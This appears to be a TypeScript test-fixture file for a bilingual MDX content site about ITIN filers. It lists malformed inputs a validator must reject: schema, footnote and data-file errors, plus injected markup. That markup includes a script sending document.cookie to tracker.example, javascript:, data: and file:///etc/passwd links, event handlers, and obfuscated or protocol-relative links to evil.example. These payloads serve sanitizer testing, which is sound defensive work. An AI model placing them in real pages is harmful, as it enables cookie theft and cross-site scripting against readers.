import { parseDocument } from 'yaml';

/** How a case breaks one file: its old text (empty for a new file) → the new text. */
export type Change = (text: string) => string;

/** One bad input: what is wrong, the file it touches, and the words the message about it must contain. */
export interface BadInput {
  /** What is wrong, as a reader of the test report would say it. */
  name: string;
  /** The file the case writes, relative to the project root (created when it does not exist). */
  file: string;
  change: Change;
  /** Words the one line naming `file` must contain (its field or line among them). */
  words: string[];
}

// Files of the real content that cases break (the suite's scratch copies keep these; see bad-input.test.ts).
const EN = 'content/articles/en/itin-filers.mdx';
const ES = 'content/articles/es/contribuyentes-con-itin.mdx';
const ABOUT_EN = 'content/pages/en/about.mdx';
const ABOUT_ES = 'content/pages/es/about.mdx';
const SOURCES = 'content/sources/common.yaml';
const REFUSED = 'content/refused-domains.yaml';
const EXCEPTIONS = 'content/uncited-number-exceptions.yaml';
const TIMELINE = 'content/timeline.yaml';
const TIMELINE_ES = 'content/timeline.es.yaml';
const GLOSSARY = 'content/glossary.yaml';
const GLOSSARY_ES = 'content/glossary.es.yaml';
const STATUTE = 'content/statute/6103.yaml';
const STATUTE_ES = 'content/statute/6103.es.yaml';

/** Adds a paragraph at the end of a body (after the footnotes: the new paragraph's line is the file's last). */
const append =
  (text: string): Change =>
  (t) =>
    `${t.trimEnd()}\n\n${text}\n`;

/** Replaces the first match; a case whose target text is gone fails loudly instead of testing nothing. */
const replace =
  (from: string | RegExp, to: string): Change =>
  (t) => {
    const out = t.replace(from, to);
    if (out === t) throw new Error(`the case's target ${String(from)} is not in the file any more`);
    return out;
  };

/** Replaces the whole file. */
const write =
  (text: string): Change =>
  () =>
    text;

/** Sets (or with `undefined`, removes) a value at `path` in a YAML document, keeping its comments. */
function editYaml(text: string, path: (string | number)[], value: unknown): string {
  const doc = parseDocument(text);
  if (!doc.hasIn(path) && value === undefined) throw new Error(`${path.join('.')} is not in the file any more`);
  if (value === undefined) doc.deleteIn(path);
  else doc.setIn(path, value);
  return doc.toString({ lineWidth: 0 });
}

/** Changes a data file's YAML at `path`. */
const yaml =
  (path: (string | number)[], value: unknown): Change =>
  (t) =>
    editYaml(t, path, value);

/** Changes an MDX file's frontmatter at `path` (undefined removes the field). */
const frontmatter =
  (path: (string | number)[], value: unknown): Change =>
  (t) => {
    const m = /^---\n([\s\S]*?)\n---\n/.exec(t);
    if (!m) throw new Error('no frontmatter');
    return `---\n${editYaml(m[1], path, value)}---\n${t.slice(m[0].length)}`;
  };

/** Renames a frontmatter key, keeping its value. */
const renameKey = (from: string, to: string): Change => replace(new RegExp(`^${from}:`, 'm'), `${to}:`);

/** Adds an item at the end of a YAML list file. */
const appendItem =
  (item: string): Change =>
  (t) =>
    `${t.trimEnd()}\n${item}\n`;

/** A source entry with one field changed, added after the registry's own. */
const source = (fields: Record<string, string | undefined>) => {
  const all: Record<string, string | undefined> = {
    id: 'zz-test-source',
    title: '"A test source"',
    issuer: 'Someone',
    date: '2025',
    url: 'https://www.irs.gov/',
    urlFound: 'seen',
    urlChecked: '2026-12-01',
    kind: 'agency',
    primary: 'true',
    ...fields,
  };
  const lines = Object.entries(all).filter(([, v]) => v !== undefined);
  return appendItem(lines.map(([k, v], i) => `${i === 0 ? '- ' : '  '}${k}: ${v}`).join('\n'));
};

/** The same unsafe markup tried in each of the four MDX files: the rules hold in both languages and on pages. */
const everywhere = (name: string, text: string, words: string[]): BadInput[] =>
  [EN, ES, ABOUT_EN, ABOUT_ES].map((file) => ({
    name: `${name} (${file.split('/').slice(-2).join('/')})`,
    file,
    change: append(text),
    words,
  }));

/** Body mutations: what MDX can carry that content may not. */
const unsafe: BadInput[] = [
  ...everywhere('a script element', '<script>fetch("https://tracker.example/?c=" + document.cookie)</script>', [
    'line',
    '<script>',
    'never runs code',
  ]),
  ...everywhere('an MDX expression that prints the build machine', 'Built on {process.env.HOME}.', [
    'line',
    '{process.env.HOME}',
    'MDX expressions are not allowed',
  ]),
  ...everywhere('an HTML javascript: link', '<a href="javascript:alert(document.domain)">Read more</a>', [
    'line',
    '<a href>',
    '"javascript:" URLs are not allowed',
  ]),
  {
    name: 'an onclick handler',
    file: EN,
    change: append('Press <span onclick="steal()">here</span>.'),
    words: ['line', '<span onclick>', 'event handlers'],
  },
  {
    name: 'an onmouseover handler in capitals',
    file: ES,
    change: append('<abbr title="x" onMouseOver="steal()">IRS</abbr>'),
    words: ['line', '<abbr onMouseOver>', 'event handlers'],
  },
  {
    name: 'an SVG with onload',
    file: EN,
    change: append('<svg onload="steal()"><circle r="4" /></svg>'),
    words: ['line', '<svg>', 'not allowed'],
  },
  {
    name: 'a style element',
    file: ABOUT_EN,
    change: append('<style>{"main{display:none}"}</style>'),
    words: ['line', '<style>', "site's CSS"],
  },
  {
    name: 'a style attribute',
    file: ES,
    change: append('Un <span style="position:fixed">aviso</span>.'),
    words: ['line', '<span style>', "site's CSS"],
  },
  {
    name: 'an iframe from another site',
    file: EN,
    change: append('<iframe src="https://www.youtube.com/embed/x"></iframe>'),
    words: ['line', '<iframe>', 'embed nothing'],
  },
  {
    name: 'an object',
    file: ES,
    change: append('<object data="https://x.example/movie.swf"></object>'),
    words: ['line', '<object>', 'embed nothing'],
  },
  {
    name: 'an embed',
    file: ABOUT_EN,
    change: append('<embed src="https://x.example/x.pdf" />'),
    words: ['line', '<embed>', 'embed nothing'],
  },
  {
    name: 'an HTML image from another origin',
    file: EN,
    change: append('<img src="https://tracker.example/pixel.gif" alt="" />'),
    words: ['line', '<img>', 'not allowed'],
  },
  {
    name: 'an HTML image from this site (images are Markdown)',
    file: ES,
    change: append('<img src="/favicon.svg" alt="Logo" />'),
    words: ['line', '<img>', 'Markdown'],
  },
  {
    name: 'a Markdown image from another origin',
    file: EN,
    change: append('![A chart](https://tracker.example/chart.png)'),
    words: ['line', 'image', 'another origin'],
  },
  {
    name: 'a Markdown image over http',
    file: ES,
    change: append('![Un gráfico](http://example.org/g.png)'),
    words: ['line', 'image', 'another origin'],
  },
  {
    name: 'a Markdown image with a relative address',
    file: ABOUT_ES,
    change: append('![Logo](logo.png)'),
    words: ['line', 'image', 'relative address'],
  },
  {
    name: 'a video',
    file: EN,
    change: append('<video src="/clip.mp4" controls></video>'),
    words: ['line', '<video>', 'no media'],
  },
  {
    name: 'an audio element',
    file: ES,
    change: append('<audio src="https://x.example/a.mp3"></audio>'),
    words: ['line', '<audio>', 'no media'],
  },
  {
    name: 'a picture with sources',
    file: ABOUT_EN,
    change: append('<picture><source srcset="https://x.example/a.webp" /></picture>'),
    words: ['line', '<picture>'],
  },
  {
    name: 'a javascript: link in mixed case',
    file: ES,
    change: append('<a href="JaVaScRiPt:alert(1)">x</a>'),
    words: ['line', '<a href>', '"javascript:" URLs'],
  },
  {
    name: 'a javascript: link hidden by a tab character reference',
    file: EN,
    change: append('<a href="java&#x09;script:alert(1)">x</a>'),
    words: ['line', '<a href>', '"javascript:" URLs'],
  },
  {
    name: 'a Markdown javascript: link',
    file: ES,
    change: append('[Lea más](javascript:alert(1))'),
    words: ['line', 'link', '"javascript:" URLs'],
  },
  {
    name: 'a Markdown data: link',
    file: EN,
    change: append('[Read](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'),
    words: ['line', 'link', '"data:" URLs'],
  },
  {
    name: 'an HTML data: link',
    file: ABOUT_EN,
    change: append('<a href="data:text/html,<script>x</script>">x</a>'),
    words: ['line', '<a href>', '"data:" URLs'],
  },
  {
    name: 'a vbscript: link',
    file: ABOUT_ES,
    change: append('[x](vbscript:msgbox)'),
    words: ['line', 'link', '"vbscript:" URLs'],
  },
  {
    name: 'a file: link',
    file: EN,
    change: append('[x](file:///etc/passwd)'),
    words: ['line', 'link', '"file:" URLs'],
  },
  {
    name: 'an HTML link over plain http',
    file: EN,
    change: append('<a href="http://www.irs.gov/">IRS</a>'),
    words: ['line', '<a href>', 'plain http://'],
  },
  {
    name: 'a Markdown link over plain http',
    file: ES,
    change: append('[IRS](http://www.irs.gov/es)'),
    words: ['line', 'link', 'plain http://'],
  },
  {
    name: 'a relative Markdown link',
    file: EN,
    change: append('[Up](../section-6103/)'),
    words: ['line', 'link', '"../section-6103/" is a relative address'],
  },
  {
    name: 'a relative HTML link',
    file: ES,
    change: append('<a href="seccion-6103/">x</a>'),
    words: ['line', '<a href>', 'relative address'],
  },
  {
    name: 'a protocol-relative link',
    file: ABOUT_EN,
    change: append('[x](//evil.example/)'),
    words: ['line', 'link', 'protocol-relative'],
  },
  {
    name: 'a backslash link that browsers read as another origin',
    file: EN,
    change: append('<a href="/\\evil.example/">x</a>'),
    words: ['line', '<a href>', 'protocol-relative'],
  },
  {
    name: 'a rel word that is not on the list',
    file: ES,
    change: append('<a href="https://www.irs.gov/" rel="opener">IRS</a>'),
    words: ['line', '<a rel>', '"opener"'],
  },
  {
    name: 'a link target',
    file: EN,
    change: append('<a href="https://www.irs.gov/" target="_blank">IRS</a>'),
    words: ['line', '<a target>', 'not allowed'],
  },
  {
    name: 'a quotation whose source is a javascript: URL',
    file: EN,
    change: append('<blockquote cite="javascript:x">Words.</blockquote>'),
    words: ['line', '<blockquote cite>', '"javascript:" URLs'],
  },
  {
    name: 'a quotation whose source is plain http',
    file: ES,
    change: append('<q cite="http://www.irs.gov/">palabras</q>'),
    words: ['line', '<q cite>', 'plain http://'],
  },
  {
    name: 'a div',
    file: EN,
    change: append('<div>Boxed.</div>'),
    words: ['line', '<div>', 'not an element content may use'],
  },
  {
    name: 'a form',
    file: ABOUT_EN,
    change: append('<form action="https://x.example/"></form>'),
    words: ['line', '<form>', 'asks readers for nothing'],
  },
  {
    name: 'a button',
    file: ES,
    change: append('<button>Enviar</button>'),
    words: ['line', '<button>', 'asks readers for nothing'],
  },
  {
    name: 'an input',
    file: EN,
    change: append('<input name="ssn" />'),
    words: ['line', '<input>', 'asks readers for nothing'],
  },
  {
    name: 'a link element',
    file: ES,
    change: append('<link rel="stylesheet" href="https://x.example/a.css" />'),
    words: ['line', '<link>', 'load nothing'],
  },
  {
    name: 'a meta refresh',
    file: EN,
    change: append('<meta http-equiv="refresh" content="0;url=https://x.example/" />'),
    words: ['line', '<meta>'],
  },
  {
    name: 'a base element',
    file: ABOUT_EN,
    change: append('<base href="https://x.example/" />'),
    words: ['line', '<base>', 'every link'],
  },
  { name: 'a template', file: ES, change: append('<template><p>x</p></template>'), words: ['line', '<template>'] },
  { name: 'a noscript', file: EN, change: append('<noscript>x</noscript>'), words: ['line', '<noscript>'] },
  { name: 'a math element', file: ES, change: append('<math><mi>x</mi></math>'), words: ['line', '<math>'] },
  { name: 'a canvas', file: EN, change: append('<canvas></canvas>'), words: ['line', '<canvas>'] },
  {
    name: 'a class attribute',
    file: ABOUT_ES,
    change: append('Un <span class="tp-big">aviso</span>.'),
    words: ['line', '<span class>', 'layout belongs to components'],
  },
  {
    name: 'an id attribute',
    file: EN,
    change: append('A <span id="in-short">clash</span>.'),
    words: ['line', '<span id>', 'not allowed'],
  },
  {
    name: 'a lang attribute that is no language',
    file: ES,
    change: append('Un <span lang="inglés">word</span>.'),
    words: ['line', '<span lang>', 'not a language code'],
  },
  {
    name: 'an attribute written as an expression',
    file: EN,
    change: append('<abbr title={"x"}>IRS</abbr>'),
    words: ['line', '<abbr title>', 'plain text in quotes'],
  },
  {
    name: 'a spread attribute',
    file: ES,
    change: append('<span {...props}>x</span>'),
    words: ['line', '{...props}', 'spread attributes'],
  },
  { name: 'a block expression', file: ES, change: append('{1 + 1}'), words: ['line', '{1 + 1}', 'MDX expressions'] },
  {
    name: 'an expression that runs a function',
    file: ABOUT_EN,
    change: append('Today is {new Date().toString()}.'),
    words: ['line', 'new Date()', 'MDX expressions'],
  },
  {
    name: 'an expression in a heading',
    file: ES,
    change: append('## Título {import.meta.url}'),
    words: ['line', 'import.meta.url', 'MDX expressions'],
  },
  {
    name: 'an import of Node code',
    file: EN,
    change: append("import fs from 'node:fs'"),
    words: ['line', '"node:fs"', 'only the registered components'],
  },
  {
    name: 'an import of a local file',
    file: ES,
    change: append("import X from './x.astro'"),
    words: ['line', '"./x.astro"', 'only the registered components'],
  },
  {
    name: 'an import of a component that is not registered',
    file: EN,
    change: append("import SiteHeader from '~/components/SiteHeader.astro'"),
    words: ['line', 'SiteHeader.astro', 'only the registered components'],
  },
  {
    name: 'an export',
    file: EN,
    change: append('export const title = "Hacked"'),
    words: ['line', 'export const title', 'export is not allowed'],
  },
  {
    name: 'an export default layout',
    file: ES,
    change: append("export { default } from '~/layouts/BaseLayout.astro'"),
    words: ['line', 'export is not allowed'],
  },
  {
    name: 'a component that is not registered',
    file: EN,
    change: append('<Citation id="usc-26-6103" lang="en" />'),
    words: ['line', '<Citation>', 'not a registered component'],
  },
  {
    name: 'a made-up component',
    file: ES,
    change: append('<Tracker />'),
    words: ['line', '<Tracker>', 'not a registered component'],
  },
  { name: 'a fragment', file: ABOUT_EN, change: append('<>words</>'), words: ['line', 'fragment'] },
  {
    name: 'a Markdown link to a refused domain',
    file: EN,
    change: append('[A copy](https://itiger.com/story)'),
    words: ['line', 'itiger.com', 'refused domain'],
  },
  {
    name: 'an HTML link to a refused domain',
    file: ES,
    change: append('<a href="https://www.itiger.com/story">copia</a>'),
    words: ['line', 'itiger.com', 'refused domain'],
  },
  {
    name: 'a refused domain in capitals with a trailing dot',
    file: ABOUT_EN,
    change: append('<a href="https://ITIGER.COM./story">copy</a>'),
    words: ['line', 'itiger.com', 'refused domain'],
  },
  {
    name: 'a subdomain of a refused domain',
    file: ABOUT_ES,
    change: append('[x](https://news.polialert.com/a)'),
    words: ['line', 'polialert.com', 'refused domain'],
  },
];

/** Frontmatter: strict schemas, every field named with its line. */
const frontmatterCases: BadInput[] = [
  {
    name: 'an article with no title',
    file: EN,
    change: frontmatter(['title'], undefined),
    words: ['title', 'is missing'],
  },
  { name: 'an empty title', file: ES, change: frontmatter(['title'], ''), words: ['title (line 2)', 'is empty'] },
  {
    name: 'a misspelt field',
    file: EN,
    change: renameKey('summary', 'sumary'),
    words: ['sumary (line', 'did you mean "summary"'],
  },
  {
    name: 'a slug field that would move the article',
    file: ES,
    change: frontmatter(['slug'], 'elsewhere'),
    words: ['slug (line', 'is not a known field'],
  },
  {
    name: 'a date that does not exist',
    file: EN,
    change: frontmatter(['updated'], '2026-02-30'),
    words: ['updated (line', '2026-02-30'],
  },
  {
    name: 'a date that is not a date',
    file: ES,
    change: frontmatter(['published'], 'soon'),
    words: ['published (line'],
  },
  {
    name: 'a description longer than 160 characters',
    file: EN,
    change: frontmatter(['description'], 'x '.repeat(100)),
    words: ['description (line', '160'],
  },
  {
    name: 'an In-short box with 2 bullets',
    file: ES,
    change: frontmatter(['inShort'], ['Uno.', 'Dos.']),
    words: ['inShort (line', 'at least 3'],
  },
  {
    name: 'an In-short box with 6 bullets',
    file: EN,
    change: frontmatter(['inShort'], ['1', '2', '3', '4', '5', '6']),
    words: ['inShort (line', 'more than 5'],
  },
  {
    name: 'a language that does not match the folder',
    file: EN,
    change: frontmatter(['lang'], 'es'),
    words: ['lang (line', 'folder'],
  },
  { name: 'a language the site does not have', file: ES, change: frontmatter(['lang'], 'fr'), words: ['lang (line'] },
  {
    name: 'a translation key with capitals',
    file: ES,
    change: frontmatter(['translationKey'], 'ITIN Filers'),
    words: ['translationKey (line', 'lower-case'],
  },
  {
    name: 'a draft flag that is not true or false',
    file: EN,
    change: frontmatter(['draft'], 'yes'),
    words: ['draft (line'],
  },
  {
    name: 'a change of an unknown kind',
    file: EN,
    change: frontmatter(['changes', 0, 'kind'], 'fix'),
    words: ['changes[0].kind (line', '"correction" or "update"'],
  },
  {
    name: 'a change naming no heading id',
    file: EN,
    change: frontmatter(['changes', 0, 'section'], 'In Short!'),
    words: ['changes[0].section (line', 'heading id'],
  },
  {
    name: 'a change with an unknown field',
    file: EN,
    change: frontmatter(['changes', 0, 'note'], 'x'),
    words: ['changes[0].note (line', 'is not a known field'],
  },
  {
    name: 'no frontmatter at all',
    file: ES,
    change: replace(/^---\n[\s\S]*?\n---\n/, ''),
    words: ['line 1', 'frontmatter is missing'],
  },
  {
    name: 'frontmatter that is not YAML',
    file: EN,
    change: replace(/^title: /m, 'title: "unclosed\n  - : ['),
    words: ['line', 'YAML error'],
  },
  {
    name: 'a summary longer than 120 words',
    file: ES,
    change: frontmatter(['summary'], 'palabra '.repeat(130)),
    words: ['summary (line', '120 words'],
  },
  {
    name: 'an About page with no updated date',
    file: ABOUT_EN,
    change: frontmatter(['updated'], undefined),
    words: ['updated', 'is missing'],
  },
  {
    name: 'an About page with an unknown field',
    file: ABOUT_ES,
    change: frontmatter(['author'], 'Nadie'),
    words: ['author (line', 'is not a known field'],
  },
  {
    name: 'an About page in the wrong language folder',
    file: ABOUT_ES,
    change: frontmatter(['lang'], 'en'),
    words: ['lang (line', 'folder'],
  },
];

/** Footnotes, citations and headings. */
const bodyCases: BadInput[] = [
  {
    name: 'a footnote label defined twice',
    file: EN,
    change: append('[^1]: [@usc-26-6103]'),
    words: ['line', 'footnote [^1] is defined twice'],
  },
  {
    name: 'an unclosed citation',
    file: ES,
    change: replace(/^\[\^1\]: \[@([a-z0-9-]+)\]/m, '[^1]: [@$1'),
    words: ['line', 'footnote [^1] has "[@'],
  },
  {
    name: 'a citation outside a footnote',
    file: EN,
    change: append('Says who? [@usc-26-6103]'),
    words: ['line', 'cites a source outside a footnote'],
  },
  {
    name: 'a stray unclosed citation outside a footnote',
    file: ABOUT_EN,
    change: append('As [@usc-26-6103 says.'),
    words: ['line', 'outside a footnote'],
  },
  {
    name: 'a citation of an unknown source',
    file: ES,
    change: replace(/^\[\^1\]: \[@[a-z0-9-]+\]/m, '[^1]: [@no-such-source]'),
    words: ['line', 'unknown source "no-such-source"'],
  },
  {
    name: 'a footnote reference with no definition',
    file: EN,
    change: append('A claim.[^999]'),
    words: ['line', 'footnote [^999] has no definition'],
  },
  {
    name: 'a footnote that nothing refers to',
    file: ES,
    change: append('[^zz]: [@usc-26-6103]'),
    words: ['line', 'footnote [^zz] is defined but never referenced'],
  },
  {
    name: 'a footnote that cites nothing',
    file: EN,
    change: append('A claim.[^zz]\n\n[^zz]: Trust us.'),
    words: ['line', 'footnote [^zz] cites no registered source'],
  },
  {
    name: 'a footnote written with braces',
    file: ES,
    change: append('Un dato.[^zz]\n\n[^zz]: {sources.irs}'),
    words: ['line', 'footnote [^zz] uses {…}'],
  },
  {
    name: 'a number with no footnote',
    file: EN,
    change: append('The IRS sent 1,234,567 addresses.'),
    words: ['line', 'states a number or date without a footnote', '1,234,567'],
  },
  {
    name: 'a heading of only punctuation',
    file: ES,
    change: append('## ¿¡…!?'),
    words: ['line', 'heading has no words'],
  },
  {
    name: 'two headings with one id marker',
    file: ABOUT_ES,
    change: append('## Otra {/* #who-this-site-is-for */}'),
    words: ['line', 'heading id "who-this-site-is-for" is already used'],
  },
  {
    name: "an id marker that repeats another heading's id",
    file: EN,
    change: append('## Again {/* #what-is-an-itin */}'),
    words: ['line', 'heading id "what-is-an-itin" is already used'],
  },
  {
    name: 'a mistyped id marker',
    file: ES,
    change: append('## Título {/* #con espacios */}'),
    words: ['line', 'is not a valid id marker'],
  },
  {
    name: 'an unclosed element (MDX syntax)',
    file: EN,
    change: append('A <span lang="en">word.'),
    words: ['line', 'MDX syntax error'],
  },
];

/** The URL model: the file name is the address, and nothing is skipped silently. */
const fileCases: BadInput[] = [
  {
    name: 'an article in a sub-folder',
    file: 'content/articles/en/guides/x.mdx',
    change: write('---\ntitle: x\n---\n'),
    words: ['file', 'no sub-folders'],
  },
  {
    name: 'a Markdown (.md) article',
    file: 'content/articles/es/notas.md',
    change: write('---\ntitle: x\n---\n'),
    words: ['file', 'is Markdown (.md)'],
  },
  {
    name: 'a file name with spaces and capitals',
    file: 'content/articles/en/My Article.mdx',
    change: write('---\ntitle: x\n---\n'),
    words: ['file', '"My Article" cannot be an address'],
  },
  {
    name: 'a language folder the site does not have',
    file: 'content/articles/fr/article.mdx',
    change: write('---\ntitle: x\n---\n'),
    words: ['file', '"fr" is not a language of this site'],
  },
  {
    name: 'a content page in a sub-folder',
    file: 'content/pages/es/equipo/x.mdx',
    change: write('---\ntitle: x\n---\n'),
    words: ['file', 'no sub-folders'],
  },
  {
    name: 'a stray file among the sources',
    file: 'content/sources/old/list.yaml',
    change: write('[]\n'),
    words: ['file', 'is not read'],
  },
];

/** Data files: sources, refused domains, exceptions, timeline, glossary, statute and their translations. */
const dataCases: BadInput[] = [
  {
    name: 'a source ID defined twice',
    file: SOURCES,
    change: source({ id: 'usc-26-6103' }),
    words: ['id (line', 'duplicate source ID'],
  },
  {
    name: 'a source URL that is not http(s)',
    file: SOURCES,
    change: source({ url: 'ftp://x.example/a' }),
    words: ['url (line', 'is not an http(s) URL'],
  },
  {
    name: 'a source that is not news with no URL',
    file: SOURCES,
    change: source({ url: undefined, urlFound: undefined, urlChecked: undefined }),
    words: ['url', 'only news sources may leave it out'],
  },
  {
    name: 'a source on a refused domain with a trailing dot',
    file: SOURCES,
    change: source({ url: 'https://ITIGER.com./story' }),
    words: ['url (line', 'itiger.com, a refused domain'],
  },
  {
    name: 'a source on a refused domain with www.',
    file: SOURCES,
    change: source({ url: 'https://www.minutemencoffee.com/x' }),
    words: ['url (line', 'minutemencoffee.com, a refused domain'],
  },
  {
    name: 'a source on a subdomain of a refused domain',
    file: SOURCES,
    change: source({ url: 'https://a.b.ggtyler.dev/x' }),
    words: ['url (line', 'ggtyler.dev, a refused domain'],
  },
  {
    name: 'a source date that does not exist',
    file: SOURCES,
    change: source({ date: '2025-13-01' }),
    words: ['date (line', '2025-13-01'],
  },
  { name: 'a source of an unknown kind', file: SOURCES, change: source({ kind: 'blog' }), words: ['kind (line'] },
  {
    name: 'a source whose primary flag is not true or false',
    file: SOURCES,
    change: source({ primary: 'maybe' }),
    words: ['primary (line', 'true or false'],
  },
  {
    name: 'a misspelt source field',
    file: SOURCES,
    change: source({ titel: '"x"' }),
    words: ['titel (line', 'did you mean "title"'],
  },
  {
    name: 'a source URL with no word on how it was found',
    file: SOURCES,
    change: source({ urlFound: undefined }),
    words: ['urlFound', 'is missing'],
  },
  {
    name: 'a source title language that is no language',
    file: SOURCES,
    change: source({ lang: 'Spanish' }),
    words: ['lang (line', 'BCP-47'],
  },
  {
    name: 'a source file that is not a list',
    file: SOURCES,
    change: write('id: x\ntitle: y\n'),
    words: ['file', 'must be a YAML list'],
  },
  {
    name: 'the refused domains written as a plain list',
    file: REFUSED,
    change: write('- itiger.com\n- topnews.com\n'),
    words: ['[0] (line 1)'],
  },
  {
    name: 'an empty list of refused domains',
    file: REFUSED,
    change: write('[]\n'),
    words: ['file', 'lists no domains'],
  },
  {
    name: 'a refused domain written as a URL',
    file: REFUSED,
    change: appendItem('- { domain: "https://x.example/", reason: "copies" }'),
    words: ['domain (line', 'bare domain'],
  },
  {
    name: 'a refused domain with no reason',
    file: REFUSED,
    change: appendItem('- { domain: x.example }'),
    words: ['reason (line', 'is missing'],
  },
  {
    name: 'an exception to the footnote rule with no reason',
    file: EXCEPTIONS,
    change: write(`- file: ${EN}\n  contains: "47,000"\n`),
    words: ['reason', 'is missing'],
  },
  {
    name: 'an exception with a reason too short to explain',
    file: EXCEPTIONS,
    change: write(`- file: ${EN}\n  contains: "47,000"\n  reason: "ok"\n`),
    words: ['reason (line 3)', 'must say why'],
  },
  {
    name: 'an exception with an unknown field',
    file: EXCEPTIONS,
    change: write(
      `- file: ${EN}\n  contains: "47,000"\n  reason: "The number is in the title of a cited report."\n  until: 2027\n`,
    ),
    words: ['until (line 4)', 'is not a known field'],
  },
  {
    name: 'a timeline event citing an unknown source',
    file: TIMELINE,
    change: yaml(['events', 0, 'sources', 0], 'no-such-source'),
    words: ['events[0]', 'sources[0] (line', 'unknown source "no-such-source"'],
  },
  {
    name: 'a timeline event before the first era',
    file: TIMELINE,
    change: yaml(['events', 0, 'date'], 1776),
    words: ['events[0]', 'date (line', 'before the first era'],
  },
  {
    name: 'a timeline anchor used twice',
    file: TIMELINE,
    change: yaml(['events', 1, 'id'], 'civil-war-income-tax'),
    words: ['events[1]', 'id (line', 'already used'],
  },
  {
    name: 'a timeline event with an unknown field',
    file: TIMELINE,
    change: yaml(['events', 0, 'txt'], 'x'),
    words: ['events[0]', 'txt (line', 'is not a known field'],
  },
  {
    name: 'eras out of order',
    file: TIMELINE,
    change: yaml(['eras', 1, 'from'], 1850),
    words: ['eras[1]', 'from (line', 'oldest first'],
  },
  {
    name: 'a Spanish timeline missing an event',
    file: TIMELINE_ES,
    change: yaml(['events', 0], undefined),
    words: ['has no translation of event'],
  },
  {
    name: 'a Spanish timeline event the English file does not have',
    file: TIMELINE_ES,
    change: yaml(['events', 0, 'id'], 'no-such-event'),
    words: ['events[0]', 'id (line', 'is not an event of the English file'],
  },
  {
    name: 'a glossary term defined twice',
    file: GLOSSARY,
    change: yaml([1, 'id'], 'accredited-representative'),
    words: ['[1]', 'id (line', 'used by an earlier term'],
  },
  {
    name: 'a glossary term citing an unknown source',
    file: GLOSSARY,
    change: yaml([0, 'sources', 0], 'no-such-source'),
    words: ['[0] "accredited-representative": sources[0] (line', 'unknown source'],
  },
  {
    name: 'a misspelt glossary field',
    file: GLOSSARY,
    change: renameKey('  definition', '  defintion'),
    words: ['defintion (line', 'did you mean "definition"'],
  },
  {
    name: 'a Spanish glossary term the English file does not have',
    file: GLOSSARY_ES,
    change: yaml([0, 'id'], 'no-such-term'),
    words: ['[0] "no-such-term": id (line', 'is not a term of the English file'],
  },
  {
    name: 'a statute provision citing an unknown source',
    file: STATUTE,
    change: yaml(['provisions', 0, 'source'], 'no-such-source'),
    words: ['provisions[0] "a": source (line', 'unknown source'],
  },
  {
    name: 'a statute anchor used twice',
    file: STATUTE,
    change: yaml(['provisions', 1, 'id'], 'a'),
    words: ['provisions[1]', 'id (line', 'already used'],
  },
  {
    name: 'a statute provision with neither words nor summary',
    file: STATUTE,
    change: (t) => editYaml(editYaml(t, ['provisions', 0, 'text'], undefined), ['provisions', 0, 'summary'], undefined),
    words: ['provisions[0] "a"', 'is missing'],
  },
  {
    name: 'a Spanish statute file for another section',
    file: STATUTE_ES,
    change: yaml(['id'], 's7213'),
    words: ['id (line', 'the English file\'s section is "s6103"'],
  },
  {
    name: 'a Spanish statute translation with an unknown field',
    file: STATUTE_ES,
    change: yaml(['titel'], 'x'),
    words: ['titel (line', 'did you mean "title"'],
  },
  {
    name: 'a search citation the search cannot read',
    file: 'content/search/citations.yaml',
    change: yaml(['targets', 0, 'cite'], 'section six'),
    words: ['targets[0]', 'cite (line', 'not a citation the search can read'],
  },
  {
    name: 'search aliases that are not lists',
    file: 'content/search/aliases.yaml',
    change: yaml(['en', 0], 'ITIN'),
    words: ['en[0] (line'],
  },
];

/** Every case of the suite, in the order the report lists them. */
export const badInputs: readonly BadInput[] = [
  ...unsafe,
  ...frontmatterCases,
  ...bodyCases,
  ...fileCases,
  ...dataCases,
];
